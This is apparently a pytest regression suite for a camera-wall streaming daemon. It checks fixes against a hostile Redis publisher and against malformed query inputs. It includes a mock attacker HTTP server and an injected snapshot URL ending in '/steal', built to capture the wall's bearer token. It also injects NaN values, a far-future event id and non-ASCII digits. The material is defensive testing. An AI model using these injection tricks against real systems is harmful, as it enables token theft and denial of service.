"""Issue 19, part 5: a hostile Redis publisher and digits that are not ASCII, against
a real daemon, its own redis-server and the stock wall in headless Chromium. The
attacker is a plain redis client that PUBLISHes (and an HTTP server on another
loopback port, to see what the wall sends it). Each test failed on the code
before the fix; the comment above it says how."""

from __future__ import annotations

import asyncio
import hashlib
import http.server
import json
import re
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from typing import Any

import pytest
import redis
from websockets.asyncio.client import connect
from websockets.exceptions import ConnectionClosed
from websockets.typing import Subprotocol

from streamd.eventlog.records import STREAM_KEY, entry_fields

from .conftest import Daemon, RedisServer, free_port, wait_for
from .test_wall import DevTools, browser  # noqa: F401 - the fixture

VIEW_TOKEN = "wall-token-0123"
ADMIN_TOKEN = "admin-token-4567"
DOOR = {"id": "door", "source": "synthetic:?width=160&height=90", "fps": 10, "detector": "none"}
EXT = {"id": "ext", "source": "external:"}
FAR_FUTURE_ID = "9999999999999999999-0"


def sha(token: str) -> str:
    return hashlib.sha256(token.encode()).hexdigest()


def tokens_toml(*names_and_tokens: tuple[str, str, str]) -> str:
    return "".join(
        f'\n[[server.tokens]]\nname = "{name}"\nsha256 = "{sha(token)}"\n{scope}\n'
        for name, token, scope in names_and_tokens
    )


def get(
    daemon: Daemon, path: str, token: str | None = None, method: str = "GET"
) -> tuple[int, bytes, dict[str, str]]:
    request = urllib.request.Request(f"http://{daemon.base}{path}", method=method)
    if token:
        request.add_header("Authorization", f"Bearer {token}")
    if method == "POST":
        request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return int(answer.status), bytes(answer.read()), dict(answer.headers)
    except urllib.error.HTTPError as exc:
        return int(exc.code), bytes(exc.read()), dict(exc.headers)


def metric(daemon: Daemon, name: str, reason: str, token: str | None = None) -> float:
    text = get(daemon, "/metrics", token)[1].decode()
    found = re.search(rf'^{name}{{reason="{reason}"}} (\S+)$', text, re.MULTILINE)
    return float(found.group(1)) if found else 0.0


def strict_json(data: bytes) -> Any:
    """As a browser's JSON.parse reads it: NaN and Infinity are not JSON."""

    def refuse(name: str) -> None:
        raise ValueError(f"{name} is not JSON")

    return json.loads(data, parse_constant=refuse)


class Attacker:
    """An HTTP server on another loopback port that lets any page read it (CORS
    preflights granted, Authorization allowed) and records every request."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str, str | None]] = []
        seen = self.requests

        class Handler(http.server.BaseHTTPRequestHandler):
            def _answer(self, body: bytes) -> None:
                seen.append((self.command, self.path, self.headers.get("Authorization")))
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Access-Control-Allow-Headers", "Authorization")
                self.send_header("Access-Control-Allow-Private-Network", "true")
                self.send_header("Content-Type", "image/jpeg")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_OPTIONS(self) -> None:
                self._answer(b"")

            def do_GET(self) -> None:
                self._answer(b"\xff\xd8\xff\xd9")

            def log_message(self, *args: Any) -> None:
                pass

        self.port = free_port()
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    yield server
    server.close()


async def open_wall(page: DevTools, url: str, cameras: list[str]) -> None:
    await page.call("Page.enable")
    await page.call("Page.navigate", url=url)
    expression = (
        "JSON.stringify(window.streamdWall ? Object.values(streamdWall.tiles)"
        ".filter(t => t.shown > 0).map(t => t.id) : [])"
    )
    async with asyncio.timeout(20):
        while sorted(json.loads(await page.evaluate(expression))) != sorted(cameras):
            await asyncio.sleep(0.2)


async def wall_events(page: DevTools, camera: str) -> list[str]:
    ids: list[str] = json.loads(
        await page.evaluate(
            f"JSON.stringify((streamdWall.tiles[{json.dumps(camera)}] || {{events: []}})"
            ".events.map(e => e.id))"
        )
    )
    return ids


def now_id() -> str:
    return f"{time.time_ns() // 10**6}-0"


# The wall fetched an event's `snapshot` as published, with `Authorization: Bearer <its
# token>`: a PUBLISH with "snapshot":"http://attacker/steal" gave the attacker the wall's
# token, and since the event was kept as the camera's last one, every wall opened later too.
async def test_wall_never_sends_its_token_to_a_publishers_snapshot_url(
    browser: DevTools,  # noqa: F811
    redis_server: RedisServer,
    start_daemon: Callable[..., Daemon],
    attacker: Attacker,
) -> None:
    daemon = start_daemon(
        redis_url=redis_server.url,
        cameras=[DOOR],
        extra=tokens_toml(("wall", VIEW_TOKEN, 'cameras = ["*"]')),
    )
    await open_wall(browser, f"http://{daemon.base}/?token={VIEW_TOKEN}", ["door"])
    steal = f"http://127.0.0.1:{attacker.port}/steal"
    publisher = redis.Redis.from_url(redis_server.url)
    plausible = now_id()  # an id the wall believes: only the snapshot URL is hostile
    for ident in (FAR_FUTURE_ID, plausible):  # the later one stays the last event
        event = {"camera_id": "door", "type": "detection", "time": 1, "id": ident}
        publisher.publish("streamd:events:door", json.dumps({**event, "snapshot": steal}))
    async with asyncio.timeout(10):  # the live event reached the wall…
        while plausible not in await wall_events(browser, "door"):
            await asyncio.sleep(0.2)
    # …and a wall opened later gets it as the camera's last event.
    await open_wall(browser, f"http://{daemon.base}/?token={VIEW_TOKEN}", ["door"])
    async with asyncio.timeout(10):
        while plausible not in await wall_events(browser, "door"):
            await asyncio.sleep(0.2)
    await asyncio.sleep(1.5)  # time for any fetch the wall would make
    assert attacker.requests == []  # before: OPTIONS, then GET with "Bearer wall-token-0123"
    last = strict_json(get(daemon, "/api/cameras", VIEW_TOKEN)[1])["cameras"]["door"]["last_event"]
    assert last["snapshot"] == f"/api/events/{plausible}/snapshot.jpg"  # rebuilt, ours
    publisher.close()
    status, _, headers = get(daemon, "/")
    assert status == 200
    assert "connect-src 'self'" in headers["Content-Security-Policy"]


# json.loads took NaN and json.dumps wrote it back: after one PUBLISH with "time":NaN,
# /api/cameras was not JSON (the event is the camera's last_event) and the wall showed
# "server unreachable" on every load.
async def test_one_nan_does_not_take_the_wall_down(
    browser: DevTools,  # noqa: F811
    redis_server: RedisServer,
    start_daemon: Callable[..., Daemon],
) -> None:
    daemon = start_daemon(redis_url=redis_server.url, cameras=[DOOR, EXT])
    await open_wall(browser, f"http://{daemon.base}/?cameras=door", ["door"])
    before = metric(daemon, "streamd_frames_rejected_total", "bad_event")
    publisher = redis.Redis.from_url(redis_server.url)
    for text in (
        '{"camera_id":"ext","type":"detection","time":NaN}',
        '{"camera_id":"door","type":"detection","time":1,"labels":[Infinity]}',
    ):
        publisher.publish(
            f"streamd:events:{json.loads(text, parse_constant=str)['camera_id']}", text
        )
    publisher.close()
    await asyncio.to_thread(
        wait_for,
        lambda: (
            metric(daemon, "streamd_frames_rejected_total", "bad_event") >= before + 2
            or b"NaN" in get(daemon, "/api/cameras")[1]  # before: taken in and kept
        ),
        10,
        "both events handled",
    )
    await browser.call("Page.navigate", url=f"http://{daemon.base}/")
    await asyncio.sleep(2)  # before: "server unreachable; retrying"
    assert await browser.evaluate("document.getElementById('conn').textContent") == "connected"
    await open_wall(browser, f"http://{daemon.base}/", ["door"])  # ext has no frames
    cameras = strict_json(get(daemon, "/api/cameras")[1])["cameras"]
    assert cameras["ext"]["last_event"] is None and cameras["door"]["last_event"] is None
    assert metric(daemon, "streamd_frames_rejected_total", "bad_event") >= before + 2


# A published id like 9999999999999999999-0 became the wall's lastEventId, so after a
# reconnect `events_since` replayed nothing: events kept while it was away were lost.
async def test_a_far_future_event_id_does_not_stop_replay(
    browser: DevTools,  # noqa: F811
    redis_server: RedisServer,
    start_daemon: Callable[..., Daemon],
) -> None:
    daemon = start_daemon(redis_url=redis_server.url, cameras=[DOOR])
    await open_wall(browser, f"http://{daemon.base}/", ["door"])
    client = redis.Redis.from_url(redis_server.url)

    def keep(labels: list[str]) -> str:
        event = {"type": "detection", "camera_id": "door", "time": time.time(), "labels": labels}
        ident = client.xadd(STREAM_KEY, entry_fields(event, False))  # type: ignore[arg-type]
        return ident.decode() if isinstance(ident, bytes) else str(ident)

    client.publish(
        "streamd:events:door",
        json.dumps({"camera_id": "door", "type": "detection", "time": 1, "id": FAR_FUTURE_ID}),
    )
    seen = keep(["person"])  # kept and published live, as a camera does
    live = {"camera_id": "door", "type": "detection", "time": 2, "id": seen, "snapshot": None}
    client.publish("streamd:events:door", json.dumps(live))
    async with asyncio.timeout(10):
        while seen not in await wall_events(browser, "door"):
            await asyncio.sleep(0.2)
    assert await browser.evaluate("streamdWall.lastEventId") == seen
    missed = keep(["car"])  # kept while the wall is away (never published live)
    await browser.evaluate("streamdWall.socket.close()")
    async with asyncio.timeout(15):  # the wall reconnects and replays since its last id
        while missed not in await wall_events(browser, "door"):
            await asyncio.sleep(0.2)
    assert metric(daemon, "streamd_frames_rejected_total", "implausible_event_id") >= 1
    client.close()


# "²".isdigit() is true and int("²") raises: /api/events?limit=² answered 500 with a 2.5 KB
# traceback logged on every request; an Arabic-Indic 3 was taken as limit 3; \d matched an
# Arabic-Indic "1-0", so its snapshot path reached Redis: 503 "events unavailable (Redis)".
@pytest.mark.parametrize(
    ("path", "names"),
    [
        ("/api/events?limit=%C2%B2", "limit"),
        ("/api/events?limit=%D9%A3", "limit"),
        ("/api/events?since=%D9%A1%D9%A7", "since"),
        ("/api/events?cursor=%D9%A1-%D9%A0", "cursor"),
        ("/api/events/%D9%A1-%D9%A0/snapshot.jpg", "event ids"),
    ],
)
def test_non_ascii_digits_are_a_400_without_a_traceback(
    redis_server: RedisServer, start_daemon: Callable[..., Daemon], path: str, names: str
) -> None:
    daemon = start_daemon(redis_url=redis_server.url, cameras=[DOOR])
    log_start = len(daemon.log_text())
    before = metric(daemon, "streamd_requests_refused_total", "bad_query")
    for _ in range(3):
        status, body, _ = get(daemon, path)
        assert status == 400, body
        assert names in strict_json(body)["error"]
    assert metric(daemon, "streamd_requests_refused_total", "bad_query") == before + 3
    log = daemon.log_text()[log_start:]
    assert "Traceback" not in log and "request failed" not in log and "unavailable" not in log


async def test_events_since_with_non_ascii_digits_is_an_error(
    redis_server: RedisServer, start_daemon: Callable[..., Daemon]
) -> None:
    daemon = start_daemon(redis_url=redis_server.url, cameras=[DOOR])
    async with connect(f"ws://{daemon.base}/ws") as ws:
        assert json.loads(await ws.recv())["type"] == "hello"
        await ws.send(
            json.dumps({"op": "subscribe", "cameras": ["door"], "events_since": "\u0661-\u0660"})
        )
        reply = json.loads(await ws.recv())
    assert reply["type"] == "error" and "events_since" in reply["reason"]


# A reload reported success while a changed [server] section waited for the next
# restart: a revoked token kept working, and its open sockets kept streaming.
async def test_reload_revokes_a_token_and_closes_its_sockets(
    redis_server: RedisServer, start_daemon: Callable[..., Daemon]
) -> None:
    admin = ("admin", ADMIN_TOKEN, 'cameras = ["*"]\nadmin = true')
    viewer = ("leaked", VIEW_TOKEN, 'cameras = ["door"]')
    daemon = start_daemon(
        redis_url=redis_server.url, cameras=[DOOR], extra=tokens_toml(admin, viewer)
    )
    assert get(daemon, "/api/cameras", VIEW_TOKEN)[0] == 200
    protocols = [Subprotocol("streamd"), Subprotocol(f"token.{VIEW_TOKEN}")]
    async with (
        connect(f"ws://{daemon.base}/ws", subprotocols=protocols) as multi,
        connect(f"ws://{daemon.base}/ws/door?token={VIEW_TOKEN}") as single,
        connect(f"ws://{daemon.base}/ws/door?token={ADMIN_TOKEN}") as kept,
    ):
        await multi.send(json.dumps({"op": "subscribe", "cameras": ["door"]}))
        async with asyncio.timeout(10):
            while not isinstance(await multi.recv(), bytes):  # frames are flowing
                pass
            await single.recv()
        text = daemon.config.read_text()
        text = text.replace(tokens_toml(admin, viewer), tokens_toml(admin))
        text = text.replace("[server]\n", "[server]\nmax_frame_bytes = 65536\n")
        daemon.config.write_text(text)
        status, body, _ = get(daemon, "/api/v1/reload", ADMIN_TOKEN, method="POST")
        assert status == 200, body
        for ws in (multi, single):
            async with asyncio.timeout(5):
                with pytest.raises(ConnectionClosed):
                    while True:
                        await ws.recv()
            assert ws.close_code == 4401, ws.close_reason
        assert isinstance(await asyncio.wait_for(kept.recv(), 5), bytes)  # the admin's stays
    assert get(daemon, "/api/cameras", VIEW_TOKEN)[0] == 401
    detail = json.loads(body)["detail"]
    assert "applied: server.tokens" in detail
    assert "NOT applied until restart: server.max_frame_bytes" in detail
    assert get(daemon, "/snapshot/door.jpg", VIEW_TOKEN)[0] == 401
    assert VIEW_TOKEN not in daemon.log_text()
    assert any(
        e.get("event") == "config changes not applied until the next restart"
        and e.get("keys") == ["server.max_frame_bytes"]
        for e in daemon.log_events()
    )
